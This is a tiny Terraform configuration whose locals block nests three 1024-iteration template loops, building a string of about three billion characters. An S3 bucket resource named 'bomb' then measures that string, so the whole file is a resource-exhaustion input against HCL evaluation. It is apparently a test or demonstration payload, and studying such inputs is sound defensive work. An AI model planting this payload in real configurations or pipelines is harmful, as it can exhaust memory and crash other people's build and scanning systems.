locals {
  x = "%{for a in range(1024)}%{for b in range(1024)}%{for c in range(1024)}xyz%{endfor}%{endfor}%{endfor}"
}
resource "aws_s3_bucket" "bomb" {
  bucket = "x"
  tags   = { n = length(local.x) }
}
